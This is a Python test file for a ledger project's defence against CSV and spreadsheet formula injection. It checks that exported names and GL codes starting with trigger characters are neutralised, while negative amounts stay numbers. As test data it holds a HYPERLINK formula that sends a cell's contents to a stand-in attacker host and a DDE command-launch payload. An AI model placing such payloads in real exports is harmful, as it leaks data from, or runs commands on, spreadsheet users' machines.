"""CSV injection: a cell that starts with =, +, -, @, a tab or a carriage return is one a spreadsheet runs as a
formula (seen: any text a clerk or a customer types, a name "=HYPERLINK(...)", reaches the print file and the GL
export). Every CSV the project writes goes through core.csvsafe; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from cistern.core import csvsafe
from cistern.ledger import export

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _written(rows) -> list[list[str]]:
    out = io.StringIO(newline="")
    csvsafe.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1", "\r=1", "-2+3+cmd|' /C calc'!A0", "=1", "-", "+", "@"],
)
def test_formula_text_is_neutralised(text):
    """Each trigger character gets a leading apostrophe: the spreadsheet shows the text and runs nothing."""
    assert _written([["name", text]]) == [["name", "'" + text]]


@pytest.mark.parametrize(
    "value,written",
    [
        (D("-12.50"), "-12.50"),  # negative money stays a number the accounting software imports
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (-7, "-7"),
        (D("-0.00"), "0.00"),  # "-0" is 0 and shown as 0
        ("-0.00", "0.00"),
        (-0.0, "0.0"),
        ("100 Sunburst Ave", "100 Sunburst Ave"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),  # only the first character matters
        (None, ""),
    ],
)
def test_numbers_and_plain_text_are_kept(value, written):
    assert _written([[value]]) == [[written]]


def test_the_gl_csv_neutralises_a_hyperlink_and_keeps_negative_money():
    """The GL export: a GL account named with a formula comes out as text; -201.95 stays a number."""
    summary = [
        {"code": "4110", "name": HYPERLINK, "debits": D("0.00"), "credits": D("201.95"), "net": D("-201.95")},
        {"code": "=1+1", "name": "Cash", "debits": D("0"), "credits": D("0"), "net": -D("0.00")},
    ]
    rows = list(csv.reader(io.StringIO(export.gl_csv(date(2026, 10, 5), summary).decode())))
    assert rows[1] == ["2026-10-05", "4110", "'" + HYPERLINK, "0.00", "201.95", "-201.95"]
    assert rows[2] == ["2026-10-05", "'=1+1", "Cash", "0.00", "0.00", "0.00"]


def test_the_gl_xlsx_stores_formula_text_as_text():
    """openpyxl stores a string that starts with = as a formula; the GL workbook stores it as text."""
    summary = [{"code": "4110", "name": HYPERLINK, "debits": D("0"), "credits": D("1"), "net": D("-1")}]
    book = load_workbook(io.BytesIO(export.gl_xlsx(date(2026, 10, 5), summary)))
    cell = book.active["C2"]
    assert cell.value == HYPERLINK and cell.data_type == "s"
    assert book.active["F2"].value == -1
